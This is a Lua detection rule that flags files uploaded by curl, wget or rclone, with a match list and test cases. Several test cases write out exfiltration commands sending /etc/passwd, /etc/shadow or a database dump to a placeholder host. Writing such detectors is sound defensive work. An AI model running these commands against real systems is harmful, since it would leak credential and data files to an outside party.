return {
  id = "exfil_upload",
  summary = "File sent out by a command-line tool",
  why = "Services send what they have to say by themselves; files leave by hand.",
  on = { "process.exec" },
  severity = "medium",
  attack = { "T1048", "T1567" },
  message = "{process.parent.name} sends a file: {process.cmdline}",
  false_positives = { "Backup jobs, which are best given a rule of their own" },
  where = {
    { names = "curl", arguments = { "-T", "--upload-file" } },
    { names = "curl", cmdline = { " -d @", " --data @", " --data-binary @", "=@" } },
    { names = "wget", cmdline = { " --post-file", " --body-file" } },
    { names = "rclone", arguments = { "copy", "copyto", "sync", "move", "rcat" } },
  },
  examples = {
    { expect = true, event = { process =
      { name = "curl", argv = { "curl", "-T", "/etc/passwd", "http://x/" } } } },
    { expect = true, event = { process =
      { name = "curl", argv = { "curl", "-F", "file=@/data/db.sql", "http://x/" } } } },
    { expect = true, event = { process =
      { name = "wget", argv = { "wget", "--post-file=/etc/shadow", "http://x/" } } } },
    { expect = false, event = { process = { name = "curl", argv = { "curl", "-d", "a=1", "http://x/" } } } },
    { expect = false, event = { process = { name = "wget", argv = { "wget", "http://x/" } } } },
    { expect = false, event = { process = { name = "rclone", argv = { "rclone", "version" } } } },
    { expect = true, event = { process = { name = "rclone", argv = { "rclone", "copy", "/data", "r:" } } } },
  },
}
